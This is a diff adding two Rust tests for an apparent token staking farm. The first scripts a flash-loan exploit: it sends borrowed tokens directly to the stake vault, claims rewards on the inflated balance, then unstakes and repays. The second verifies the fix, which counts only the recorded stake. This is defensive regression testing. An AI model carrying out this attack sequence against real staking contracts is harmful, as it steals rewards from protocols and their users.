@@ -0,0 +1,54 @@
+#[tokio::test]
+async fn test_direct_transfer_reward_exploit() {
+    println!("\n=== EXPLOIT: Rewards On Tokens Never Staked ===\n");
+
+    let mallory = Keypair::new();
+    let farm = create_farm(REWARD_RATE).await;
+    let position = open_position(&farm, &mallory).await;
+
+    println!("1. Mallory stakes 10 tokens and waits 30 days");
+    stake(&farm, &position, &mallory, 10).await.unwrap();
+    warp_slots(SLOTS_PER_DAY * 30).await;
+
+    println!("\n2. Flash-borrow 1,000,000 and send them straight to the vault");
+    let loan = flash_borrow(&mallory, 1_000_000).await;
+    token_transfer(&mallory, &position.stake_vault, 1_000_000).await;
+
+    println!("\n3. Claim, unstake everything, repay");
+    claim_rewards(&farm, &position, &mallory).await.unwrap();
+    unstake(&farm, &position, &mallory, 1_000_010).await.unwrap();
+    flash_repay(loan).await.unwrap();
+
+    // Vulnerable: 30 days of rewards on 1,000,010 tokens
+    let rewards = get_reward_balance(&mallory).await;
+    assert_eq!(rewards, expected_reward(1_000_010, SLOTS_PER_DAY * 30));
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Rewards 100,001x what 10 staked tokens earned");
+}
+
+#[tokio::test]
+async fn test_rewards_follow_recorded_stake() {
+    println!("\n=== SECURITY: Rewards From position.staked_amount ===\n");
+
+    let mallory = Keypair::new();
+    let farm = create_farm(REWARD_RATE).await;
+    let position = open_position(&farm, &mallory).await;
+
+    stake(&farm, &position, &mallory, 10).await.unwrap();
+    warp_slots(SLOTS_PER_DAY * 30).await;
+
+    println!("1. 1,000,000 sent directly to the vault, then claim");
+    token_transfer(&mallory, &position.stake_vault, 1_000_000).await;
+    claim_rewards(&farm, &position, &mallory).await.unwrap();
+    assert_eq!(
+        get_reward_balance(&mallory).await,
+        expected_reward(10, SLOTS_PER_DAY * 30)
+    );
+    println!("   ✓ Rewards for 10 tokens only");
+
+    println!("\n2. Try to unstake the directly transferred tokens");
+    let result = unstake(&farm, &position, &mallory, 1_000_010).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: InsufficientStake");
+}